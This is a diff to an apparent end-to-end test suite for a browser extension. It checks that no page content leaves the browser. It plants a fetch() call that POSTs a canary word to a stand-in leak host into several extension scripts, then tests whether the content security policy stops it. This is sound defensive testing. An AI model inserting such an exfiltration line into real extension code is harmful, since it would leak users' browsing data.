@@ -1,9 +1,7 @@
-import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { DIST, ExtensionBrowser } from '../../tools/extension.ts';
 import { expect, test } from './fixtures.ts';
 import { type LoggingProxy, startLoggingProxy } from './loggingProxy.ts';
+import { Planted } from './planted.ts';
 
 /**
  * Nothing leaves: a browser whose every connection goes through our proxy, on a page full of words that
@@ -19,16 +17,18 @@ const HTML = `<!doctype html><html lang="en"><title>Town</title>
 <p>Congratulations! You have won a free zorblatt cruise! Click now to claim your prize!!!</p>
 <p>You are a complete idiot and nobody wants you here, you stupid pemmicanry.</p>`;
 
+const FETCH = `fetch('http://${LEAK}/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;
+
 let proxy: LoggingProxy;
-let copy: string;
+let planted: Planted;
 
 test.beforeEach(async () => {
   proxy = await startLoggingProxy({ [PAGE]: HTML });
-  copy = await mkdtemp(join(tmpdir(), 'inkling-leak-'));
+  planted = await Planted.make();
 });
 test.afterEach(async () => {
   await proxy.close();
-  await rm(copy, { recursive: true, force: true });
+  await planted.remove();
 });
 
 /** Reads the page; with an extension, also teaches it something and restarts its engine. */
@@ -57,29 +57,6 @@ function canariesIn(log: readonly string[]): string[] {
   return CANARIES.filter((word) => log.some((entry) => entry.includes(word)));
 }
 
-/** A copy of the built extension in which `file` begins with a leak. */
-async function plantIn(file: string): Promise<string> {
-  await cp(DIST, copy, { recursive: true });
-  const text = await readFile(join(copy, file), 'utf8');
-  const leak = `fetch('http://${LEAK}/', { method: 'POST', mode: 'no-cors', body: '${CANARIES[0]}' }).catch(() => {});`;
-  await writeFile(join(copy, file), `${leak}\n${text}`);
-  return copy;
-}
-
-/** Lets the extension pages of the copy connect to anywhere. */
-async function loosenPolicy(): Promise<void> {
-  const file = join(copy, 'manifest.json');
-  const manifest = JSON.parse(await readFile(file, 'utf8'));
-  const policy = manifest.content_security_policy.extension_pages as string;
-  manifest.content_security_policy.extension_pages = policy.replace("connect-src 'none'", 'connect-src *');
-  await writeFile(file, JSON.stringify(manifest));
-}
-
-async function offscreenScript(): Promise<string> {
-  const name = (await readdir(join(DIST, 'assets'))).find((file) => /^offscreen-.*\.js$/.test(file));
-  return `assets/${name}`;
-}
-
 test('the extension causes no connection, and nothing of the page leaves', async () => {
   await walk(null);
   const hostsWithout = proxy.hosts();
@@ -91,20 +68,24 @@ test('the extension causes no connection, and nothing of the page leaves', async
 });
 
 test('a leak planted in the content script is seen', async () => {
-  await walk(await plantIn('src/content/content.iife.js'));
+  await planted.plant('content', FETCH);
+  await walk(planted.folder);
   expect(proxy.hosts()).toContain(LEAK);
   expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
 });
 
-test('a leak planted in the offscreen page is stopped by the policy', async () => {
-  await walk(await plantIn(await offscreenScript()), false);
+test('leaks planted in the extension’s own contexts are stopped by the policy', async () => {
+  for (const script of ['offscreen', 'worker', 'background'] as const) await planted.plant(script, FETCH);
+  await walk(planted.folder, false);
   expect(proxy.hosts()).not.toContain(LEAK);
 });
 
-test('without the policy, a leak planted in the offscreen page is seen', async () => {
-  await plantIn(await offscreenScript());
-  await loosenPolicy();
-  await walk(copy, false);
-  expect(proxy.hosts()).toContain(LEAK);
-  expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
-});
+for (const script of ['offscreen', 'worker', 'background'] as const) {
+  test(`without the policy, a leak planted in the ${script} script is seen`, async () => {
+    await planted.plant(script, FETCH);
+    await planted.loosenPolicy();
+    await walk(planted.folder, false);
+    expect(proxy.hosts()).toContain(LEAK);
+    expect(canariesIn(proxy.log)).toEqual([CANARIES[0]]);
+  });
+}
